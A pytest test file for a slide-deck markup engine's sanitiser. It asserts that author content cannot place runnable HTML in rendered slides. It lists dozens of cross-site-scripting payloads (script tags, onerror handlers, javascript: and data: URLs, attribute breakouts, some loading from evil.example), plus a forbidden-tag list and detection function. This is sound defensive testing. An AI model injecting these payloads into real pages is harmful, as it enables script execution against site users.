"""Nothing that an author writes may run: every page is parsed and searched for what could."""

from collections.abc import Callable
from html.parser import HTMLParser
from typing import Any

import pytest

from engine.deck.markup import state

Build = Callable[[str], dict[str, Any]]

_FORBIDDEN = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "button",
    "textarea",
    "link",
    "meta",
    "base",
    "svg",
    "video",
    "audio",
    "source",
    "template",
    "frame",
    "frameset",
    "applet",
}

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' OnErRoR='alert(1)'>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
        'onerror=alert(1)&gt;">'
    ),
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<form action='javascript:alert(1)'><input type=submit></form>",
    "<p style='background: url(javascript:alert(1))'>x</p>",
    "<p style='width: expression(alert(1))'>x</p>",
    "<p style='position: fixed; inset: 0; z-index: 9999'>x</p>",
    "<div onclick=alert(1) class=\"a\" onmouseover='b'>x</div>",
    "<details ontoggle=alert(1) open>x</details>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css'</style>",
    "<div class='live live--sim' data-block='x' data-kind='sim' data-step='1'>x</div>",
    "</div></section></body><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    '<a href="x" id="root" name="cookie">x</a>',
    "[x](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "[x]( &#x6A;avascript:alert(1) )",
    "<javascript:alert(1)>",
    "[x](<java\nscript:alert(1)>)",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\htmlData{onclick=alert(1)}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "`<img src=x onerror=alert(1)>`",
    "^[<img src=x onerror=alert(1)>]",
    "[@<script>]",
    '![a" onerror="alert(1)](x.png)',
    '![a](x.png){width=1"onerror=alert(1)}',
    '![a](x.png){.a"onerror=alert(1)}',
]

# Where an attack may stand; `{}` is the place.
PLACES = [
    "## Title\n\n{}\n",
    "## Title {}\n\ntext\n",
    "<!-- eyebrow: {} -->\n## Title\n",
    "<!-- footnote-right: {} -->\n## Title\n\ntext\n",
    "<!-- chapter: {} -->\n## Title\n\n```toc\n```\n",
    "## T\n\n```box\ntitle: |-\n  {}\ncontent: |-\n  {}\n```\n",
    (
        "## T\n\n```conversation\nmessages:\n  - role: user\n    model: |-\n      {}\n"
        "    content: |-\n      {}\n```\n"
    ),
    "## T\n\n| a |\n|---|\n| {} |\n",
    "<!-- columns: 2 -->\n## T\n\n- {}\n\n|||\n\n> {}\n",
    "## T\n\n```python\n{}\n```\n",
    (
        "## T\n\n```chart\ntitle: |-\n  {}\ndata:\n  labels: [a]\n  datasets:\n    - label: |-\n"
        "        {}\n      data: [1]\n```\n"
    ),
    "## T\n\n```iframe\nsrc: https://example.org\ntitle: |-\n  {}\n```\n",
    "## T\n\n```builtwith\nrepo: |-\n  {}\nlabel: |-\n  {}\n```\n",
    "---\nfooter:\n  left: |-\n    {}\n---\n\n## T\n",
]


class Page(HTMLParser):
    """Collects every tag and attribute of a page, as a browser would see them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def harmful(html: str) -> list[str]:
    found = []
    for tag, attributes in Page(html).tags:
        if tag in _FORBIDDEN:
            found.append(f"<{tag}>")
        for name, value in attributes.items():
            bare = "".join(value.split()).lower()
            if name.startswith("on") or name in ("srcdoc", "id", "name", "formaction", "action"):
                found.append(f"{tag} {name}={value}")
            if name in ("href", "src") and bare.startswith(
                ("javascript:", "vbscript:", "data:text")
            ):
                found.append(f"{tag} {name}={value}")
            if name == "style" and any(
                w in bare for w in ("url(", "expression(", "fixed", "@import")
            ):
                found.append(f"{tag} style={value}")
            if name == "data-block" and value == "x":
                found.append("a forged block")
    return found


@pytest.mark.parametrize("place", PLACES)
def test_no_attack_survives_anywhere(build: Build, place: str) -> None:
    for attack in ATTACKS:
        deck = build(place.replace("{}", attack))
        for slide in deck["slides"]:
            assert harmful(slide["html"]) == [], attack
            assert harmful(f'<section style="{slide["style"]}">') == [], attack


# What old sanitisers left in an attribute, which a slot put there would end.
IN_A_TAG = [
    '<div title="{} <img src=x onerror=alert(1)>">x</div>',
    "<div title='{} <img src=x onerror=alert(1)>'>x</div>",
    '<div title="a\n{}\n">x</div>',
    "<p class={}>x</p>",
    '<a href="{}">x</a>',
    '<img alt="{}" src="{}">',
    '<p style="color: red; {}">x</p>',
    '<p title="a > b {}">x</p>',
    '<p title="&quot;{}">x</p>',
    "<p title=\"'{}'\" lang='\"{}\"'>x</p>",
]


@pytest.mark.parametrize("html", IN_A_TAG)
@pytest.mark.parametrize("is_clean", [False, True])
def test_no_slot_is_filled_inside_a_tag(
    html: str, is_clean: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Also behind a sanitiser that leaves `<` in attributes, as some versions do."""
    if is_clean:
        monkeypatch.setattr(state, "clean", lambda text: text.replace("'", '"'))
    one = state.State([])
    slot = one.slot('<b class="ours">filled</b>')
    made = one.fill(html.replace("{}", slot) + f"<p>{slot}</p>")
    assert "\ue000" not in made
    assert made.count("filled") == 1, "in the text, and nowhere else"
    assert made.endswith('<p><b class="ours">filled</b></p>')
    assert harmful(made) == []


def test_a_citation_in_an_attribute_is_left_out(build: Build) -> None:
    text = '## T\n\n<div title="[@a] <img src=x onerror=alert(1)>\n\n<div ">x</div>\n\nSo [@a].\n'
    html = build(text)["slides"][0]["html"]
    assert harmful(html) == []
    assert html.count("data-cite") == 1
    for _, attributes in Page(html).tags:
        assert "colloquium-cite" not in attributes.get("title", "")


def test_the_judge_finds_what_it_must() -> None:
    assert harmful("<p onclick=x>") == ["p onclick=x"]
    assert harmful("<a href=' javascript:1'>") == ["a href= javascript:1"]
    assert harmful("<p>fine</p>") == []


@pytest.mark.parametrize(
    "directive",
    [
        'style: x" onclick="alert(1)',
        'class: a" onclick="alert(1)',
        "style: color: red}</style>",
        'id: x" onclick="y',
        "style: background: url(//evil.example)",
        'layout: x" onclick="y',
    ],
)
def test_directives_cannot_break_out_of_attributes(build: Build, directive: str) -> None:
    deck = build(f"<!-- {directive} -->\n## T\n\ntext\n")
    slide = deck["slides"][0]
    joined = " ".join([slide["style"], slide["id"], slide["layout"], *slide["classes"]])
    assert not any(letter in joined for letter in "\"'<>&")
    assert "url" not in slide["style"]
    assert deck["problems"], "a refused value is said"


@pytest.mark.parametrize(
    "src", ["javascript:alert(1)", "data:text/html,x", " JaVaScript:x", "//[", ""]
)
def test_iframes_take_web_addresses_only(build: Build, src: str) -> None:
    deck = build(f"## T\n\n```iframe\nsrc: {src!r}\n```\n")
    assert harmful(deck["slides"][0]["html"]) == []
    assert "<iframe" not in deck["slides"][0]["html"]
    if "//" not in src:
        assert deck["problems"]


def test_authors_html_that_is_harmless_stays(build: Build) -> None:
    html = '<div class="text-sm" style="color: red; margin-top: 1em"><span>a</span><br></div>'
    slide = build(f"## T\n\n{html}\n")["slides"][0]
    assert '<div class="text-sm" style="color: red; margin-top: 1em">' in slide["html"]


def test_what_was_taken_out_is_said_with_its_place(build: Build) -> None:
    deck = build('## T\n\ntext\n\n<div class="a">\n<video src="x"></video>\n</div>\n')
    [problem] = deck["problems"]
    assert (problem["line"], problem["column"], problem["severity"]) == (6, 1, "warning")
    assert "<video>" in problem["message"]


def test_unbalanced_html_stays_in_its_slide(build: Build) -> None:
    deck = build("<!-- columns: 2 -->\n## T\n\n<div><b>\n\n|||\n\n</div></div></div>b\n")
    html = deck["slides"][0]["html"]
    depth = 0
    for tag, is_end in tags_with_ends(html):
        if tag in ("div", "footer"):
            depth += -1 if is_end else 1
            assert depth >= 0
    assert depth == 0
    assert html.count("colloquium-column") == 2


def tags_with_ends(html: str) -> list[tuple[str, bool]]:
    found: list[tuple[str, bool]] = []
    parser = HTMLParser()
    parser.handle_starttag = lambda tag, attrs: found.append((tag, False))
    parser.handle_endtag = lambda tag: found.append((tag, True))
    parser.feed(html)
    parser.close()
    return found


@pytest.mark.parametrize("mark", ["\ue000b:9\ue001", "&#xE000;b:9&#xE001;", "\ue000c:x\ue001"])
def test_marks_of_our_own_cannot_be_forged(build: Build, mark: str) -> None:
    for place in PLACES:
        for slide in build(place.replace("{}", mark))["slides"]:
            assert "\ue000" not in slide["html"]
            assert "data-cite" not in slide["html"]
